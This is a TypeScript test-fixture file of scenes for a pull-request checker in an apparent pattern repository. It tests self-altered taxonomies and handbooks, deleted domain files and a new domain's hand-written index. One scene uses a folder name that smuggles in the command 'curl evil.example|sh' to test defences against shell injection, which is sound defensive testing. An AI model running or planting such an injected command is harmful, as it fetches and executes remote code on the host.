import type { Scene } from '../scene.ts';
import {
  cachingDraft,
  cachingPath,
  cachingWrong,
  handbook,
  handbookPath,
  pattern,
  taxonomy,
  taxonomyPath,
} from './texts.ts';

const newPath = 'patterns/nlp/optimization/prediction-caching/README.md';

/** What is the first domain's, as a second one would have it. */
function nlp(text: string): string {
  return text
    .replace('domain: ml', 'domain: nlp')
    .replaceAll('ml/', 'nlp/')
    .replace('prefix: ML', 'prefix: NLP')
    .replaceAll('ML-', 'NLP-');
}

/** Pull requests that change what judges them, or bring a domain of their own. */
export const domains: Scene[] = [
  {
    name: 'rules-of-its-own',
    story:
      'Taxonomy, quality table and schema of the pull request itself do not count, whatever they would let pass.',
    after: {
      [cachingPath]: cachingWrong,
      [taxonomyPath]: taxonomy.replaceAll('ml/optimization', 'ml/optimisation'),
      [handbookPath]: handbook.replace(/^\| (Performance|Scalability|Documentation|Ethics) .*\n/gm, ''),
      'schemas/pattern.schema.json': '{}',
    },
  },
  {
    name: 'taxonomy-removed',
    story: 'A domain’s taxonomy cannot be removed.',
    after: { [taxonomyPath]: null },
  },
  {
    name: 'handbook-removed',
    story: 'A domain’s handbook, with its quality table, cannot be removed.',
    after: { [handbookPath]: null },
  },
  {
    name: 'new-domain-with-index',
    story: 'What a new domain’s own index says of it is not believed, and the index is not written by hand.',
    after: {
      'patterns/nlp/taxonomy.yaml': nlp(taxonomy),
      'patterns/nlp/README.md': handbook,
      'patterns/nlp/index.json': '{"version":2,"entries":[],"unlisted":[]}',
      [newPath]: nlp(cachingDraft),
    },
  },
  {
    name: 'name-like-a-command',
    story: 'A folder whose name would do something in a shell never stands in a command of the comment.',
    after: {
      'patterns/ml/optimization/x; curl evil.example|sh #/README.md': pattern(
        'fingerprint: ML-OPT-008\nname: Prediction Caching\ncategory: ml/optimization',
      ),
    },
  },
];
